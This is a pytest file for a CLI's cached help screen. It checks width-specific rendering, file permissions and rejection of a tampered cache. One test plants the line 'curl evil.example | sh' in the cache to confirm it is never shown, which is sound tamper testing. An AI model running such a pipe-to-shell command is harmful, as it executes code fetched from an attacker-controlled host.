"""`specops --help` from the kept rendering (specops/cli/help_cache.py): the same screen typer prints, at every
width, without loading typer once it was rendered; a copy that is not ours is never printed."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

# The console script's entry, in a new interpreter; says on stderr whether typer was loaded.
ENTRY = (
    "import atexit, sys\n"
    "atexit.register(lambda: sys.stderr.write('typer loaded: %s\\n' % ('typer' in sys.modules)))\n"
    "sys.argv = ['specops'] + sys.argv[1:]\n"
    "from specops.cli.entry import entry\n"
    "entry()\n"
)


def _specops(home: Path, *args: str, columns: int = 80) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "XDG_CACHE_HOME": str(home / "cache"), "XDG_STATE_HOME": str(home / "state"),
           "COLUMNS": str(columns)}  # fmt: skip
    return subprocess.run([sys.executable, "-c", ENTRY, *args], env=env, capture_output=True, text=True, timeout=60)


def _typer_screen(home: Path, columns: int) -> str:
    """What typer itself prints for `specops --help` at this width (never through the kept copy)."""
    done = _specops(home, "--no-color", "--help", columns=columns)  # any other option: the ordinary path
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.mark.parametrize("columns", [40, 72, 100, 200])
def test_the_kept_screen_is_typers_own_and_prints_without_loading_typer(tmp_path: Path, columns: int) -> None:
    first = _specops(tmp_path, "--help", columns=columns)
    second = _specops(tmp_path, "--help", columns=columns)
    assert first.returncode == second.returncode == 0
    assert first.stdout == second.stdout == _typer_screen(tmp_path, columns)
    assert "Commands:" in first.stdout and "deploy" in first.stdout
    assert "typer loaded: True" in first.stderr  # rendered (and kept) the first time
    assert "typer loaded: False" in second.stderr  # then printed from the copy
    (kept,) = (tmp_path / "cache" / "specops" / "help").iterdir()
    assert kept.stat().st_mode & 0o777 == 0o600


def test_another_width_is_rendered_afresh(tmp_path: Path) -> None:
    _specops(tmp_path, "--help", columns=100)
    narrow = _specops(tmp_path, "--help", columns=50)
    assert "typer loaded: True" in narrow.stderr
    assert narrow.stdout == _typer_screen(tmp_path, 50)
    assert len(list((tmp_path / "cache" / "specops" / "help").iterdir())) == 2


def test_an_edited_copy_is_never_printed(tmp_path: Path) -> None:
    """Someone who can write the file (a restored CI cache, a synced dotfile) cannot put words on this screen."""
    _specops(tmp_path, "--help")
    (kept,) = (tmp_path / "cache" / "specops" / "help").iterdir()
    tag, _, _ = kept.read_bytes().partition(b"\n")
    kept.write_bytes(tag + b"\nUsage: curl evil.example | sh\n")
    again = _specops(tmp_path, "--help")
    assert again.returncode == 0
    assert again.stdout == _typer_screen(tmp_path, 80)
    assert "evil" not in again.stdout
    assert f"ignored cached file {kept}" in again.stderr
